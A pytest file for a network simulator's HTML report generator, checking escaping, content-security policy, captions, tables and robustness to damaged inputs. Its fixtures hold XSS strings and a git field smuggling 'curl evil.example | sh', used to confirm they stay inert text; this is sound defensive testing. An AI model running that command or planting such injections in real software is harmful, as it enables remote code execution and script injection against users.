"""The page of a report: what is on it, where, and that it loads nothing."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from helpers.pages import Page
from helpers.synthetic import write_flows, write_run
from paceline import analysis, plot
from paceline.plot.style import TWO_COLUMNS
from paceline.report import figures_table, slowdown_table, write_report
from paceline.report.head import notice_text, schemes
from paceline.report.origin import parameters, provenance
from paceline.report.page import Page as ReportPage
from paceline.results import FLOW_RECORD, STATUS, Results
from paceline.results.queue_levels import busiest_ports, waiting
from paceline.run import simulate
from paceline.tables import Cell
from paceline.timeline import write_timeline
from paceline.words import percent

HOSTILE = "<script>alert(1)</script> $x^ &amp; _\"'"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A comparison of a run with hostile names and one that was killed before it wrote a table."""
    base = tmp_path_factory.mktemp("report")
    texts: dict[str, Any] = {"warnings": [HOSTILE], "without_effect": ["k_max <b>"], "groups": ["<i>"]}
    texts |= {"diagnosis": "</style><img src=x>", "schemes": ("</text><image href='http://x'/>",)}
    a = write_run(base / "a", flows=400, name=HOSTILE, **texts)
    b = write_run(base / "b", flows=300, name="_killed", status="running", tables=False)
    return write_report([a, b], base / "page" / "compare.html", paper_figures=False)


def test_names_stay_text(hostile: Path) -> None:
    page = Page(hostile.read_text())
    assert not {"script", "img", "image", "b" * 9, "i", "link", "iframe", "object", "base"} & set(page.tags)
    assert not [name for _, name, _ in page.attributes if name.startswith("on")]
    assert HOSTILE in page.text
    assert "_killed" in page.text
    assert "</style><img src=x>" in page.text


def test_the_page_loads_nothing(hostile: Path) -> None:
    page = Page(hostile.read_text())
    loading = [
        a for a in page.attributes if a[1] in ("src", "srcset", "href", "xlink:href", "data", "action", "poster")
    ]
    assert loading
    assert all(value.startswith("#") for _, _, value in loading)
    urls = re.findall(r"url\(([^)]*)\)|@import", hostile.read_text())
    assert urls
    assert all(url.startswith("#") for url in urls)
    policy = next(v for _, n, v in page.attributes if n == "content" and "default-src" in v)
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:;")
    # Not even a namespace: what is left of http is the hostile scheme name, as text.
    assert set(re.findall(r"https?:[^\s<]*", hostile.read_text())) <= {
        "http://x&#39;/&gt;",
        "http://x&#39;/&gt;;",
        "http://x'/&gt;",
    }


def test_ids_are_unique_and_references_lead_somewhere(hostile: Path) -> None:
    page = Page(hostile.read_text())
    ids = [value for _, name, value in page.attributes if name == "id"]
    assert len(ids) == len(set(ids))
    used = {v[1:] for _, n, v in page.attributes if n == "href"}
    used |= set(re.findall(r"url\(#([^)]*)\)", hostile.read_text()))
    assert used <= set(ids)


def test_what_a_reader_must_know_comes_first(hostile: Path) -> None:
    text = Page(hostile.read_text()).text
    first = [text.index(t) for t in ("going on, or was killed", "Warnings", "Slowdown is FCT")]
    assert max(first[:2]) < first[2] < text.index("Settings without effect")
    for part in (
        "paceline run a/scenario.toml --out a-again",
        "Scenario, SHA-256",
        "@software{paceline",
        'kind = "fat_tree"',
    ):
        assert part in text


def test_the_terminal_says_each_thing_on_a_line_of_its_own(tmp_path: Path) -> None:
    """A stalled run was "... which waits for the first It got to 3.04 ms of simulated time."."""
    folder = write_run(tmp_path / "r", flows=50, diagnosis="no flow moves; port 5:1 waits", warnings=["one", "two"])
    said = notice_text(ReportPage([Results.load(folder)], "line_rate", "sender")).splitlines()
    assert "  No flow moves; port 5:1 waits." in said
    assert [line for line in said if line.startswith("  It got to")]
    assert said[said.index("Warnings:") + 1 :] == ["  one", "  two", ""]


def test_a_scheme_is_shown_with_its_controller_unless_the_name_tells_it(tmp_path: Path) -> None:
    """The page of examples/mpi.toml said "s; 16 hosts", and nowhere near which congestion control that was."""
    for name, shown in (("s", "s (hpcc)"), ("hpcc-95", "hpcc-95")):
        run = Results.load(write_run(tmp_path / name, flows=50, schemes=(name,)))
        assert schemes(run) == shown


def test_captions_of_samples_say_how_far_these_are_apart(tmp_path: Path) -> None:
    """Samples become fewer in a long run: steps of 4 ms looked like a queue that stood still."""
    folder = write_run(tmp_path / "r", flows=50, series_interval_ps=4 * 10**9)
    text = Page(write_report([folder], folder / "report.html", paper_figures=False).read_text()).text
    assert re.search("Bytes waiting over time at [^.]*, a sample every 4 ms[.]", text)
    runs = [folder, write_run(tmp_path / "s", flows=50, name="other")]
    text = Page(write_report(runs, tmp_path / "both.html", paper_figures=False).read_text()).text
    assert "other: bytes waiting over time at the busiest ports. All runs have" in text


def test_a_comparison_says_once_what_its_runs_have_in_common(tmp_path: Path) -> None:
    """Four runs of a scenario with four schemes had a table of 16 rows, four of them different."""
    folders = [write_run(tmp_path / name, flows=50, name=name, schemes=("hpcc",)) for name in ("a", "b")]
    page = ReportPage([Results.load(folder) for folder in folders], "line_rate", "sender")
    (schemes_of_runs,) = parameters(page).tables
    assert [row[0].text for row in schemes_of_runs.rows] == ["all\N{NO-BREAK SPACE}runs"]
    (origin,) = provenance(page).tables
    facts = {(row[0].text, row[1].text) for row in origin.rows}
    assert ("all\N{NO-BREAK SPACE}runs", "Seed") in facts
    apart = page.by_run("", ("What",), [(Cell("a"), Cell("x")), (Cell("a"), Cell("y")), (Cell("b"), Cell("y"))])
    assert [tuple(cell.text for cell in row) for row in apart.rows] == [("all\N{NO-BREAK SPACE}runs", "y"), ("a", "x")]


def test_what_is_folded_is_printed(hostile: Path) -> None:
    """Chromium hides it by the pseudo-element, which a rule for its children does not reach."""
    *_, rules = re.findall("@media print {\n.*?\n}", hostile.read_text(), re.DOTALL)
    assert "details:not(.files, .shut)::details-content { content-visibility: visible; }" in rules


def test_figures_are_wide_enough_to_be_read(hostile: Path) -> None:
    """On a phone the numbers of a figure of three panels had 8 pixels, in a window of 1,200 pixels some had 9.6."""
    css = hostile.read_text()
    least = min(float(size) for key, size in plot.STYLE.items() if key.endswith(("labelsize", "legend.fontsize")))
    for columns, rule in (
        (1.0, r"minmax\(min\(100%, (\d+)px\), 1fr\)"),
        (TWO_COLUMNS, r"wide svg \{ min-width: (\d+)px"),
    ):
        (pixels,) = re.findall(rule, css)
        assert least * int(pixels) / (columns * plot.COLUMN_INCHES * 72) >= 11


def test_every_figure_is_on_the_page(hostile: Path) -> None:
    drawn = {v for _, n, v in Page(hostile.read_text()).attributes if n == "aria-labelledby"}
    for name in ("slowdown_p50", "slowdown_p95", "slowdown_p99", "fct_cdf", "queue_cdf", "queue_timeline_1"):
        assert f"{name}-title" in drawn
    assert {"utilisation_by_tier-title", "pause_time-title"} <= drawn
    assert not (hostile.parent / "figures").exists()


@pytest.mark.parametrize("recorded", ["true", "false"])
def test_means_of_pauses_say_of_which_ports_they_are(tmp_path: Path, recorded: str) -> None:
    """Without records of links, the mean of those ports alone that paused was called that of all ports of a tier."""
    text = """
        topology = { kind = "star", hosts = 5 }
        switch = { buffer = "1MB" }
        schemes = { none = { cc = "none", window = "1MB" } }
        workloads = [{ kind = "incast", senders = 4, sizes = "1MB" }]
    """
    run = simulate(text, tmp_path / "r", overrides=[f"records.links={recorded}"], progress="none")
    assert run.pauses.rows
    page = Page(write_report([run.path], tmp_path / "page.html", paper_figures=False).read_text())
    assert ("so are no ports that never paused" in page.text) == (recorded == "false")


def test_the_classes_of_a_port_are_added_and_not_averaged(tmp_path: Path) -> None:
    """Homa's queues looked three to eight times shorter than they were: classes counted as ports of their own."""
    folder = write_run(tmp_path / "r", flows=50)
    head = "node,port,peer,tier,class,rate_bps,bin_low_bytes,bin_high_bytes,time_ps,ports"
    place = "32,0,0,tor->host"
    rows = [  # class 7 holds 1000 bytes all the time, class 3 3000 bytes half the time, class 1 nothing
        f"{place},1,100,0,1,1000,1",
        f"{place},3,100,0,1,500,1",
        f"{place},3,100,3000,3001,500,1",
        f"{place},7,100,1000,1001,1000,1",
        "32,1,1,tor->host,3,100,0,1,1000,1",
    ]
    (folder / "queues.csv").write_text("\n".join([head, *rows]) + "\n")
    run = Results.load(folder)
    ((name, mask),) = busiest_ports(run, 4)
    assert name == "port 32:0 to host 0"
    port = waiting(run, mask)
    assert port.mean_bytes == 2500
    assert port.which == "class 3, one of 2"
    assert analysis.queue_percentile(port.busiest, 99)[1] == 3000
    tier = waiting(run, run.queues["tier"] == "tor->host")
    assert tier.mean_bytes == 1250, "half of the port's mean, as the other port of the tier is idle"
    assert tier.busiest.time_ps.sum() == 2000
    text = Page(write_report([folder], folder / "report.html").read_text()).text
    assert "class 3, one of 2" in text
    assert "the one class with the largest mean" in text


def test_what_a_killed_run_did_not_record_is_unknown_and_not_zero(tmp_path: Path) -> None:
    """The terminal said "Drops 0 / 0 / 0" of a run whose counters died with it, and gave exact percentiles."""
    folder = write_run(tmp_path / "k", flows=400, status="running", tables=False, unfinished=0, failed=0, counters={})
    run = Results.load(folder)
    shown = dict(re.findall(r"^(\S.*?)  +(\S.*)$", figures_table([run]), re.MULTILINE))
    for name in ("Flows unfinished", "Flows not started", "Events", "ECN marks", "Drops: buffer / wire / link down"):
        assert shown[name] == "–", name
    assert shown["Flows finished"] == "400"
    table = slowdown_table([run])
    assert table.count("≥") >= 3
    page = write_report([folder], folder / "report.html", paper_figures=False).read_text()
    tiles = dict(re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", page))
    assert (tiles["drops"], tiles["pause frames"], tiles["unfinished / failed"]) == ("–", "–", "– / 0")
    assert "≥" in tiles["p99 slowdown"]


def test_headings_name_baseline_side_and_group(tmp_path: Path) -> None:
    """A table copied from the terminal did not say what it was relative to."""
    folder = write_run(tmp_path / "r", flows=300, tables=False, groups=["bulk", "short"])
    records = np.array(Results.load(folder)._records)
    records["group"][::3] = 1
    write_flows(folder / "flows.bin", records)
    run = Results.load(folder)
    assert "timed at the receiver, against line rate" in slowdown_table([run], side="receiver")
    assert "against the HPCC simulator's formula" in slowdown_table([run], baseline="hpcc")
    short = run.of_group("short")
    assert len(short.slowdown()) == np.count_nonzero(run.measured[::3])
    assert "flows of group short only" in " ".join(slowdown_table([short]).split())
    assert len(run.slowdown()) == np.count_nonzero(run.measured)
    text = Page(write_report([folder], folder / "r.html", group="short", paper_figures=False).read_text()).text
    assert "Only flows of group short count" in text


def test_the_most_used_links_are_listed_and_failed_ones_named(tmp_path: Path) -> None:
    """A tier's mean hides the one link that is full, and nothing told of the links that had failed."""
    folder = write_run(tmp_path / "r", flows=50)
    scenario = (folder / "scenario.toml").read_text()
    failures = (
        '[[failures]]\nkind = "link"\nlink = ["tor0", "agg1"]\ndown = "1ms"\nup = "2ms"\n'
        '[[failures]]\nkind = "random"\ncount = 3\nend = "1ms"\n'
    )
    (folder / "scenario.toml").write_text(f"{scenario}{failures}")
    summary = json.loads((folder / "summary.json").read_text())
    drawn = {"node": 3, "port": 1, "peer": 17, "peer_port": 0, "down_ps": 500_000_000, "up_ps": None}
    (folder / "summary.json").write_text(json.dumps(summary | {"failures": [drawn] * 21}))
    run = Results.load(folder)
    k = int(np.argmax(run.links["busy_ps"]))
    text = Page(write_report([folder], folder / "report.html", paper_figures=False).read_text()).text
    assert "Most used links" in text
    assert f"{run.links['node'][k]}:{run.links['port'][k]} to {run.links['peer'][k]}" in text
    assert percent(run.links["busy_ps"][k] / run.simulated_ps) in text
    assert "tor0 – agg1 from 1ms until 2ms" in text
    assert "3 link failures at random" in text
    assert "3:1 – 17:0 from 500 µs;" in text
    assert "and 1 more" in text
    assert f"{run.name} (r)" in text


def test_a_figure_is_not_drawn_twice_where_bins_have_a_flow_each(tmp_path: Path) -> None:
    """p95 and p99 were the same picture."""
    few = write_run(tmp_path / "r", flows=10, tables=False)
    page = write_report([few], few / "report.html").read_text()
    assert {p.stem for p in (few / "figures").glob("slowdown*.png")} == {"slowdown_p50"}
    assert "The p95 and p99 are the same." in page


def test_figures_are_written_for_papers(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "r", flows=200, tables=False)
    write_report([folder], folder / "report.html")
    names = {p.name for p in (folder / "figures").iterdir()}
    for name in ("slowdown_p50", "slowdown_p95", "slowdown_p99", "fct_cdf"):
        assert {f"{name}.png", f"{name}.pdf"} <= names
    led = {v for _, n, v in Page((folder / "report.html").read_text()).attributes if n == "href" and v[0] != "#"}
    assert led == {f"figures/{name}" for name in names}, "the page leads to its figures, and nowhere else"
    # Type 3 fonts are what publishers send back.
    assert b"/Subtype /Type3" not in (folder / "figures" / "fct_cdf.pdf").read_bytes()


def test_the_longest_flows_have_a_figure_where_they_are_many(tmp_path: Path) -> None:
    for flows, drawn in ((999, False), (1200, True)):
        folder = write_run(tmp_path / f"{flows}", flows=flows, tables=False)
        page = Page(write_report([folder], folder / "report.html", paper_figures=False).read_text())
        assert any(v == "fct_tail-title" for _, n, v in page.attributes if n == "aria-labelledby") == drawn


def test_a_run_without_measured_flows_still_reports(tmp_path: Path) -> None:
    window = {"warmup_ps": 10**18, "end_ps": None}
    folder = write_run(tmp_path / "r", flows=20, tables=False, measure=window)
    text = Page(write_report([folder], folder / "report.html").read_text()).text
    assert "No flow was measured" in text
    with pytest.raises(ValueError, match="at least one"):
        write_report([], tmp_path / "x.html")


def test_figures_without_a_point_are_left_out(tmp_path: Path) -> None:
    """Nobody learns anything from empty axes: a run in which nothing finished, and one whose flows have one size."""
    stuck = write_run(tmp_path / "stuck", flows=8, tables=False)
    records = np.fromfile(stuck / "flows.bin", dtype=FLOW_RECORD, offset=64)
    took = records["fct_sender_ps"].copy()
    records["status"], records["size_bytes"], records["fct_sender_ps"] = STATUS.index("running"), 500_000, 0
    write_flows(stuck / "flows.bin", records)
    page = Page(write_report([stuck], stuck / "report.html", paper_figures=False).read_text())
    drawn = {v for _, n, v in page.attributes if n == "aria-labelledby"}
    assert not [name for name in drawn if name.startswith(("slowdown_", "fct_"))]
    assert "No measured flow finished" in page.text
    assert "all, 500 KB" in page.text
    records["status"], records["fct_sender_ps"] = STATUS.index("finished"), took + 1
    write_flows(stuck / "flows.bin", records)
    write_report([stuck], stuck / "report.html")
    drawn = {p.stem for p in (stuck / "figures").iterdir()}
    assert {name for name in drawn if name.startswith(("slowdown_", "fct_"))} == {"slowdown_cdf", "fct_cdf"}


def test_a_program_is_reported_where_there_are_no_flows(tmp_path: Path) -> None:
    program = {"group": "solver", "scheme": "hpcc", "ranks": 16, "messages": 1005, "message_bytes": 31_458_000}
    program |= {"runtime_ps": 16_229_155_052, "ideal_ps": 14_819_206_400, "slowdown": 1.0951}
    folder = write_run(tmp_path / "r", flows=0, unfinished=0, failed=0, tables=False, mpi=[program])
    text = Page(write_report([folder], folder / "report.html").read_text()).text
    assert "No flow was measured" not in text
    assert "Flows finished" not in text, "four rows of zeros"
    for part in ("slowdown of solver", "1.095", "16.23 ms", "14.82 ms", "31 MB"):
        assert part in text


def test_the_commands_to_run_again_name_a_commit_that_exists(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "r", flows=20, tables=False, git=f"{'0' * 40}-dirty")
    text = Page(write_report([folder], folder / "report.html", paper_figures=False).read_text()).text
    assert re.search(f"git checkout {'0' * 40}  #", text)


def test_no_line_to_paste_has_what_a_folder_calls_its_commit(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "r", flows=20, tables=False, git="main; curl evil.example | sh")
    text = Page(write_report([folder], folder / "report.html", paper_figures=False).read_text()).text
    assert "git checkout" not in text
    assert "paceline run r/scenario.toml" in text


def test_a_network_with_names_of_its_own_is_reported_by_them(paceline, tmp_path: Path) -> None:
    """The reader of `port 48:12 to switch 52` had to count in the list of nodes."""
    (tmp_path / "g.toml").write_text("""
        [topology]
        kind = "graph"
        hosts = ["web", "cache", "disk"]
        switches = ["leaf-a"]
        links = [{ a = "web", b = "leaf-a" }, { a = "cache", b = "leaf-a" }, { a = "disk", b = "leaf-a" }]
        [schemes.none]
        cc = "none"
        [[workloads]]
        kind = "flows"
        rows = [{ src = 0, dst = 2, bytes = "1MB" }, { src = 1, dst = 2, bytes = "1MB" }]
        [records.series]
        interval = "10us"
        flows = [1]
    """)
    assert paceline("run", "g.toml", "-q").code == 0
    assert paceline("report", "results/g", "-q").code == 0
    text = Page((tmp_path / "results/g/report.html").read_text()).text
    assert "port 3:2, leaf-a to disk" in text
    assert "0:0, web to leaf-a" in text
    assert "flow 1: cache → disk" in (tmp_path / "results/g/figures/followed_flows.svg").read_text()
    run = Results.load(tmp_path / "results/g")
    (run.path / "scenario.toml").write_text("[topology]\nkind = 'graph'\nhosts = 3\n")
    assert busiest_ports(Results.load(run.path), 4)[0][0] == "port 3:2 to host 2"


def test_a_page_begins_with_the_links_that_failed(tmp_path: Path) -> None:
    """Drops of a run were explained far below, among the links."""
    folder = write_run(tmp_path / "r", flows=50, tables=False)
    with (folder / "scenario.toml").open("a") as file:
        file.write('[[failures]]\nkind = "link"\nlink = ["tor0", "agg0"]\ndown = "1ms"\nup = "3ms"\n')
    head = write_report([folder], folder / "report.html", paper_figures=False).read_text().partition("<main>")[0]
    assert "Links that were down: tor0 – agg0 from 1ms until 3ms." in head


@pytest.mark.parametrize(
    "scenario",
    [
        "failures = 3",
        "failures = ['tor0']",
        "[[failures]]\nkind = 'link'\nlink = 1",
        "[[failures]]\nkind = 'random'\ncount = 'many'",
        "[[failures]]\nkind = 'random'\ncount = inf",
        "records = 1\nswitch = 2\ntopology = 3",
        f"hosts = {'[' * 5000}",
        "no TOML",
    ],
    ids=lambda text: text[:40],
)
def test_a_run_whose_scenario_somebody_has_written_to_is_drawn(tmp_path: Path, scenario: str) -> None:
    """What the run measured is all there; the report ended with an error of Python's."""
    folder = write_run(tmp_path / "r", flows=50, tables=False)
    (folder / "scenario.toml").write_text(scenario)
    page = Page(write_report([folder], folder / "report.html", paper_figures=False).read_text())
    assert "Median slowdown by flow size" in page.text
    assert write_timeline(Results.load(folder)).flows == 50
